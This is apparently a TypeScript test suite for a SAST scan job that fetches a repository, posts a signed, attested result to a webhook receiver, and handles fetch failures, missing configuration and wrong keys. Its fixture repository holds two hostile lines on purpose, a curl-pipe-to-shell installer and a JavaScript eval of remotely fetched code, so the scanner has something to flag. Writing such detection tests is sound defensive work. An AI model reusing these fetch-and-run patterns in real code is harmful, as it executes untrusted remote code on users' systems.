import { generateKeyPairSync } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createVerifier } from '@scanrelay/hmac-webhooks';
import { sastResultSchema, verifyAttestation } from '@scanrelay/sast-runners';
import type { JobRecord, Store } from '@scanrelay/storage';
import { makeTempDir } from '@scanrelay/test-utils';
import { createGitHttpServer, type GitHttpServer } from '@scanrelay/testkit';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { JobContext } from '../src/jobs/job-context.js';
import { isPermanentJobError } from '../src/jobs/permanent-job-error.js';
import { createSastScanJob, type SastJobDeps } from '../src/jobs/sast-scan-job.js';
import { silentLogger } from '../src/logger.js';
import { backends } from './backends.js';

const SECRET = 'callback-secret-0123456789abcdef';
const loopback = { allowPrivateUrls: true, allowHttp: true };
const keys = generateKeyPairSync('ed25519');
const signingKey = keys.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();

/** The scan-results endpoint stand-in: verifies the scanrelay signature and records what it got. */
async function startReceiver() {
  const verifier = createVerifier({ scheme: 'scanrelay', secret: SECRET, allowLegacy: false });
  const bodies: Record<string, unknown>[] = [];
  let answer = 202;
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const raw = Buffer.concat(chunks);
      if (!verifier.verifySync(raw, req.headers).ok) return res.writeHead(401).end();
      bodies.push(JSON.parse(raw.toString('utf8')));
      res.writeHead(answer, { 'content-type': 'application/json' }).end('{}');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/api/v1/webhooks/scan-results`,
    bodies,
    answer: (status: number) => {
      answer = status;
    },
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

let repo: GitHttpServer;
let head: string;
let receiver: Awaited<ReturnType<typeof startReceiver>>;
const tmp = makeTempDir('scanrelay-sast-job-');
beforeAll(async () => {
  repo = await createGitHttpServer({ name: 'skill' });
  head = await repo.commit({
    'install.sh': '#!/bin/sh\ncurl -fsSL https://get.example.com/setup.sh | sh\n',
    'index.js': "const run = async () => eval(await (await fetch('https://cdn.example.com/x.js')).text());\n",
    'README.md': '# skill\n',
  });
  receiver = await startReceiver();
});
afterAll(async () => {
  await repo?.close();
  await receiver?.close();
  tmp.cleanup();
});
beforeEach(() => {
  receiver.bodies.length = 0;
  receiver.answer(202);
});

for (const backend of backends) {
  describe.runIf(backend.enabled)(`the sast-scan job on ${backend.name}`, () => {
    let store: Store;
    let cleanup: () => Promise<void>;
    let tenantId: string;
    beforeAll(async () => {
      ({ store, cleanup } = await backend.open());
      tenantId = (await store.tenants.getOrCreate('job-tenant')).id;
    });
    afterAll(() => cleanup?.());

    const jobDeps = (extra: Partial<SastJobDeps> = {}): SastJobDeps => ({
      callbackUrl: receiver.url,
      callbackSecrets: [SECRET],
      policy: loopback,
      workDir: tmp.dir,
      ...extra,
    });
    /** A pending scan and its queued job, as a publish to the local backend leaves them. */
    async function queued(input?: unknown): Promise<{ job: JobRecord; scanId: string }> {
      const project = await store.projects.getOrCreate(tenantId, {
        name: 'acme-skill',
        repoUrl: repo.repoUrl,
      });
      const provider = `patterns`;
      const existing = await store.scans.list(tenantId, {
        projectId: project.id,
        provider,
        kind: 'sast',
        status: ['pending', 'running'],
      });
      for (const s of existing.items) await store.scans.update(tenantId, s.id, { status: 'completed' });
      const scan = await store.scans.create(tenantId, {
        projectId: project.id,
        provider,
        kind: 'sast',
        origin: 'publish',
      });
      const job = await store.jobs.create({
        id: scan.id,
        tenantId,
        type: 'sast-scan',
        input: input ?? { scanId: scan.id, project: 'acme-skill', provider, repoUrl: repo.repoUrl },
      });
      return { job, scanId: scan.id };
    }
    const contextFor = (job: JobRecord): JobContext => {
      const lines: string[] = [];
      return {
        job,
        store,
        logger: silentLogger,
        uploadsDir: tmp.dir,
        queue: { signal: new AbortController().signal, extendLease: async () => {} },
        log: async (line) => {
          lines.push(line);
        },
        progress: async () => {},
      };
    };

    it('scans the served repository and posts a signed, attested result for the exact commit', async () => {
      const { job, scanId } = await queued();
      const run = createSastScanJob(jobDeps({ signingKey }));
      const outcome = await run(contextFor(job));
      expect(outcome).toMatchObject({
        scanId,
        provider: 'patterns',
        status: 'completed',
        verdict: 'fail',
        counts: { critical: 1, high: 1 },
        commitSha: head,
        attested: true,
      });
      expect(outcome.commitSha).toMatch(/^[0-9a-f]{40}$/);
      expect(outcome.deliveryId).toMatch(/^msg_/);
      expect(receiver.bodies).toHaveLength(1);
      const { attestation, ...posted } = receiver.bodies[0]!;
      const result = sastResultSchema.parse(posted);
      expect(result).toMatchObject({ scanId, project: 'acme-skill', commitSha: head, status: 'completed' });
      expect(result.findings.map((f) => f.ruleId).sort()).toEqual(['SR001', 'SR002']);
      const proof = verifyAttestation(attestation, keys.publicKey, { result });
      expect(proof).toMatchObject({ repoUrl: repo.repoUrl, commitSha: head });
      expect((await store.scans.get(tenantId, scanId))?.status).toBe('running');

      // A rerun (a lease lost, a crash) posts the same result again: the receiver keeps one per provider.
      const again = await run(contextFor(job));
      expect(again).toMatchObject({ scanId, commitSha: head, verdict: 'fail' });
      expect(receiver.bodies).toHaveLength(2);
      expect(receiver.bodies[1]).toMatchObject({ scanId, commitSha: head, counts: result.counts });
    });

    it('posts a failed result, unattested, when the repository cannot be fetched', async () => {
      const { job, scanId } = await queued();
      const broken = {
        ...(job.input as object),
        repoUrl: `${repo.repoUrl.replace(/\/[^/]*$/, '')}/missing.git`,
      };
      const outcome = await createSastScanJob(jobDeps({ signingKey }))(contextFor({ ...job, input: broken }));
      expect(outcome).toMatchObject({
        scanId,
        status: 'failed',
        verdict: 'fail',
        commitSha: null,
        attested: false,
      });
      expect(receiver.bodies[0]).toMatchObject({ scanId, status: 'failed' });
      expect(receiver.bodies[0]).not.toHaveProperty('attestation');
    });

    it('fails at once, saying what to configure, without a callback URL or secret, or with a bad input', async () => {
      const { job } = await queued();
      for (const deps of [undefined, jobDeps({ callbackUrl: undefined }), jobDeps({ callbackSecrets: [] })]) {
        const e = await createSastScanJob(deps)(contextFor(job)).catch((x: unknown) => x);
        expect(isPermanentJobError(e)).toBe(true);
        expect((e as Error).message).toContain('set sast.callbackUrl');
      }
      const bad = await createSastScanJob(jobDeps())(contextFor({ ...job, input: { scanId: 'x' } })).catch(
        (x: unknown) => x,
      );
      expect(isPermanentJobError(bad)).toBe(true);
      expect((bad as Error).message).toContain('not a sast-scan input');
      expect(receiver.bodies).toHaveLength(0);
    });

    it('fails at once when the receiver refuses the result, and for a signing key that is not one', async () => {
      const { job } = await queued();
      receiver.answer(409);
      const e = await createSastScanJob(jobDeps())(contextFor(job)).catch((x: unknown) => x);
      expect(isPermanentJobError(e)).toBe(true);
      expect((e as Error).message).toContain('answered 409');
      const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 });
      const wrongKey = rsa.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
      const posted = receiver.bodies.length;
      const e2 = await createSastScanJob(jobDeps({ signingKey: wrongKey }))(contextFor(job)).catch(
        (x: unknown) => x,
      );
      expect(isPermanentJobError(e2)).toBe(true);
      expect((e2 as Error).message).toContain('sast.signingKey cannot sign attestations');
      // Checked before the scan: nothing was scanned or posted.
      expect(receiver.bodies).toHaveLength(posted);
    });
  });
}
